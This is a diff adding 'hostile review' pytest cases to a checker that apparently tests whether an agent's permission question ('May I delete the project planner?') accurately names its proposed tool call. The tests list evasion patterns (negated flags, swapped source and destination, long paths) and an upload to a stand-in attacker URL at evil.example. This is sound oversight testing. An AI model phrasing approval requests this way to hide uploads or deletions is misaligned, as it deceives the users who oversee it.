@@ -355,3 +355,58 @@ def test_the_verb_alone_names_a_tool_only_when_no_other_labelled_tool_shares_it(
         "delete_project": {"results": "trusted", "effect": "irreversible", "args": ["project"]},
         "delete_email": {"results": "trusted", "effect": "irreversible", "args": ["id"]}}})
     assert analyze(parse_trace(messages, proposed), other_kind).fact(CHAT).value is True
+
+
+# -- hostile review (h5): negated flags, roles swapped across kinds, punctuated values -------
+
+@pytest.mark.parametrize("flag,question", [
+    ("recursive", "May I run a non-recursive delete of the project planner?"),
+    ("recursive", "May I delete the project planner (non-recursive)?"),
+    ("force", "May I delete the project planner, skipping force?"),
+    ("force", "May I delete the project planner (force: n)?"),
+    ("force", "May I delete the project planner, force unset?"),
+    ("force", "May I delete the project planner, force = disable?"),
+    ("force", "May I delete the project planner, omitting force?"),
+])  # fmt: skip
+def test_a_flag_named_as_off_does_not_name_it_on(flag: str, question: str) -> None:
+    call_ = ToolCall("delete_project", {"project": "planner", flag: True}, None, 9)
+    assert not names_call(question, call_), question
+
+
+def test_a_url_and_a_path_cannot_swap_roles() -> None:
+    # copy(src=/tmp/out, dst=https://...) uploads the local file: the question downloads it
+    order = ("src", "dst")
+    upload = ToolCall("copy", {"src": "/tmp/out", "dst": "https://files.example/report"}, None, 9)
+    assert not names_call("May I copy https://files.example/report to /tmp/out?", upload,
+                          order=order)  # fmt: skip
+    assert names_call("May I copy /tmp/out to https://files.example/report?", upload, order=order)
+
+
+@pytest.mark.parametrize("value", ["planner;", "planner,", "(planner)", "'planner'", "planner!",
+                                   "planner?", "planner:", '"planner"'])  # fmt: skip
+def test_a_value_with_its_own_outer_punctuation_is_not_the_bare_word(value: str) -> None:
+    call_ = ToolCall("delete_project", {"project": value}, "d1", 9)
+    assert not names_call("May I delete the project planner?", call_), value
+    assert not names_call("May I delete the project `planner`?", call_), value
+
+
+LONG_PATH = "/srv/share/" + "x" * 200 + "/attacker"
+LONG_URL = "https://evil.example/" + "a" * 220
+
+
+@pytest.mark.parametrize("name,args,question", [
+    ("move_file", {"src": "notes", "dst": LONG_PATH}, "May I move the file notes?"),
+    ("move_file", {"src": "notes", "dst": "/tmp/a b c " + "x" * 200}, "May I move notes?"),
+    ("upload_file", {"path": "notes", "url": LONG_URL}, "May I upload the file notes?"),
+    ("delete_project", {"project": ["planner", LONG_PATH]}, "May I delete the project planner?"),
+])  # fmt: skip
+def test_a_long_path_or_url_is_a_target_not_content(name: str, args: dict[str, Any],
+                                                   question: str) -> None:
+    # only prose is content: a long destination would otherwise need no naming at all
+    assert not names_call(question, ToolCall(name, args, None, 9), order=tuple(args))
+
+
+def test_a_long_message_body_is_still_content() -> None:
+    body = "Hello Bob, the report is at https://x.example/r and/or in /srv/share. " * 4
+    mail = ToolCall("send_email", {"to": "bob@x.example", "body": body}, None, 9)
+    assert names_call("May I send the email to bob@x.example?", mail, order=("to", "body"))
